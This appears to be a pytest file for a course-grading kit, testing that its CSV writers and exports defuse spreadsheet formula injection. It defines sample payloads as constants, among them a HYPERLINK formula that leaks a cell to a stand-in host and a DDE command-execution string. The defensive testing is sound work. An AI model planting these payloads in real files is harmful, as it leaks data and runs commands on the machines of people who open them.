"""Can a learner's text make a spreadsheet run a formula from any CSV the kit writes (CSV injection, OWASP)?"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from safetyrater.cli import main
from safetyrater.cohort.collect import CourseLayout, find_submissions
from safetyrater.io import FORMULA_STARTS, spreadsheet_text, write_csv

from conftest import write_submission

EXERCISE = "ex01-two-questions"
HYPERLINK = '=HYPERLINK("evil.example?leak="&B3,"Open grades")'
CALC = "=cmd|' -c calc'!A0"
SUM = "@SUM(A1:A9)"
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cells(path):
    """Every cell of a CSV file, the header row included."""
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def runnable(cell: str) -> bool:
    """Whether a spreadsheet opening the file would read ``cell`` as a formula (a number is a number)."""
    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        (SUM, "'" + SUM),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-3.5", "-3.5"),
        ("+1e5", "+1e5"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_that_would_run_gets_a_leading_quote_and_a_number_stays_a_number(value, written):
    """Does the one CSV writer put a ' before each formula start (=, +, -, @, tab, CR) and leave numbers and other text alone?"""
    assert spreadsheet_text(value) == written
    frame = pd.DataFrame({"text": [value], "number": [-3], "list": [(value, "b")]})
    rows = list(csv.reader(io.StringIO(write_csv(frame), newline="")))
    assert rows[1][0] == written
    assert rows[1][1] == "-3"  # a negative number in a number column is written as the number
    assert rows[1][2] == spreadsheet_text(f"{value};b")


@pytest.mark.parametrize("learner", [HYPERLINK, CALC, SUM, "-rm"])  # tab and CR: control characters, refused already
def test_collect_rejects_a_learner_id_a_spreadsheet_would_run_and_grades_the_others(tmp_path, learner):
    """Is a formula-like learner folder named as a problem and skipped, while the others are collected?"""
    write_submission(tmp_path, learner, EXERCISE, {})
    write_submission(tmp_path, "alice", EXERCISE, {})
    submissions, problems = find_submissions(CourseLayout.find(tmp_path), [EXERCISE])
    assert [s.learner for s in submissions] == ["alice"]
    assert len(problems) == 1 and repr(learner) in problems[0].message and "formula" in problems[0].message


@pytest.fixture
def hostile_course(tmp_path, bank):
    """mallory answers with formulas in every text field; a formula-named learner folder sits beside her."""
    cases = bank.deck_cases(EXERCISE)
    given = {"rating": CALC, "over_refusal": False, "categories": [HYPERLINK, "-2+3"], "note": SUM}
    write_submission(tmp_path, "mallory", EXERCISE, {case.id: dict(given) for case in cases})
    write_submission(tmp_path, HYPERLINK, EXERCISE, {})
    return tmp_path


def test_every_csv_of_grade_report_and_export_holds_no_cell_that_runs(hostile_course, tmp_path, capsys):
    """Do scores.csv, the report's tables and the Canvas and Moodle files keep mallory's formulas as inert text?"""
    course, out = hostile_course, tmp_path / "out"
    out.mkdir()  # an output in a missing folder is refused (issue 17); the folder is the instructor's
    assert main(["cohort", "grade", str(course), "--out", str(out / "scores.csv"), "--no-progress"]) == 1  # the bad folder
    assert main(["cohort", "report", str(course), "--out", str(out / "report"), "--no-progress"]) == 0
    for lms in ("canvas", "moodle"):
        assert main(["cohort", "export", str(course), "--lms", lms, "--source", "answers", "--out", str(out / f"{lms}.csv")]) == 0
    capsys.readouterr()
    written = sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"scores.csv", "learners.csv", "problems.csv", "canvas.csv", "moodle.csv"}
    for path in written:
        assert not [cell for cell in cells(path) if runnable(cell)], path.name
    # mallory's text reached the scores, as text a spreadsheet shows
    assert any(cell.startswith("'" + HYPERLINK) for cell in cells(out / "scores.csv"))
    assert any(cell.startswith("'" + HYPERLINK) for cell in cells(out / "report" / "scores.csv"))


@pytest.mark.slow
def test_names_from_the_gradebook_go_into_the_lms_files_as_text(hostile_course, tmp_path, capsys):
    """Do a learner's names and email in nbgrader's gradebook reach the Canvas and Moodle files without running?"""
    from safetyrater.cohort.gradebook import open_gradebook

    course = hostile_course
    main(["cohort", "grade", str(course), "--gradebook", "--no-progress"])
    with open_gradebook(f"sqlite:///{course / 'graders/cohort/gradebook.db'}", "safetyrater") as gradebook:
        gradebook.update_or_create_student("mallory", first_name=CALC, last_name=SUM, email="+1@example.org")
    for lms in ("canvas", "moodle"):
        out = tmp_path / f"{lms}.csv"
        assert main(["cohort", "export", str(course), "--lms", lms, "--source", "gradebook", "--out", str(out)]) == 0
        found = cells(out)
        assert "'" + CALC in found or f"'{SUM}, {CALC}" in found
        assert not [cell for cell in found if runnable(cell)], lms
    capsys.readouterr()
